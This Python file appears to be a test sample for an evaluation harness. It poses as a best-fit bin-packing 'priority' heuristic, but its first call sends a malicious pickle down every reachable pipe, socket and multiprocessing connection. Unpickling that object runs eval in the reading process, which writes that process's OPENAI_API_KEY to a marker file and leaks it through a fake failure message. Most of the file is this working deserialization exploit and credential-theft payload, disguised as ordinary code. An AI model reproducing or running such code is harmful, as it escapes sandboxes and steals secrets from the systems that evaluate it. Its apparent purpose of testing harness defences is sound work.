"""Pickle down every channel: at its first call the heuristic sends, down every pipe and socket it
can reach, a message whose unpickling runs code in the process that reads it. That code writes a
marker file (its path comes from the placeholder below) holding the reader's OPENAI_API_KEY and
makes the message look like a failure whose reason is the key. Its decisions are best fit's."""
import gc
import os
import pickle
import stat
import struct
import sys

MARKER = "__MARKER_PATH__"

EXPRESSION = (
    "(lambda os: (open(MARKER, 'w').write('ran in %d: %s' % (os.getpid(), os.environ.get('OPENAI_API_KEY', ''))),"
    " ('raised', 'leaked: ' + os.environ.get('OPENAI_API_KEY', '<no key>'), True))[1])(__import__('os'))"
).replace("MARKER", repr(MARKER))


class Message:
    def __reduce__(self):
        return (eval, (EXPRESSION,))


def connections():
    """Every open, writable multiprocessing connection on the stack or on the heap."""
    try:
        from multiprocessing.connection import Connection
    except ImportError:
        return []
    found = {}

    def keep(value):
        if isinstance(value, Connection) and not value.closed and value.writable:
            found[id(value)] = value

    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            keep(value)
        frame = frame.f_back
    for obj in gc.get_objects():
        keep(obj)
    return list(found.values())


def descriptors():
    """Every pipe and socket descriptor of this process."""
    try:
        numbers = sorted(int(name) for name in os.listdir("/proc/self/fd"))
    except OSError:
        numbers = list(range(3, 256))
    for fd in numbers:
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            yield fd


def send_everywhere():
    data = pickle.dumps(Message())
    framed = struct.pack("!i", len(data)) + data  # multiprocessing's framing
    used = set()
    for conn in connections():
        try:
            used.add(conn.fileno())
            conn.send_bytes(data)
        except Exception:
            pass
    for fd in descriptors():
        if fd in used:
            continue
        try:
            blocking = os.get_blocking(fd)
            os.set_blocking(fd, False)
            try:
                os.write(fd, framed)
            finally:
                os.set_blocking(fd, blocking)
        except Exception:
            pass


sent = False


def priority(item, bins):
    global sent
    if not sent:
        sent = True
        try:
            send_everywhere()
        except Exception:
            pass
    return -(bins - item)
